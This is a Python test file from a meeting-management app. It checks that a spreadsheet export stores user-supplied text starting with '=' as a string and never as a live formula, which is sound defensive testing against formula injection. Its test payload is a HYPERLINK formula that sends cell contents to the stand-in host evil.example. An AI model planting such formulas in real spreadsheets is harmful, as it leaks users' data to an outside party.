"""The fee basis workbook writes user text as text (issue 11, point 8): a meeting title or a
person's name that starts with "=" is a string cell in the file, never a live formula."""

import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook

from arshjul.meetings import attendance
from arshjul.meetings.attendance import Entry
from arshjul.meetings.models import Meeting

from .held import invitee, make_held, make_rates

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Öppna")'


@pytest.fixture
def held(world, mw):
    make_rates(world.org)
    return make_held(mw)


def test_a_title_that_starts_with_equals_is_text(world, mw, held, client_of):
    attendance.record_attendance(
        meeting=held,
        entries=[Entry(invitee(held, "Anna").pk, "present")],
        by=mw.secretary.user,
        version=held.version,
    )
    Meeting.objects.filter(pk=held.pk).update(title=FORMULA)
    response = client_of(mw.secretary).get(f"/meetings/{held.pk}/fees.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
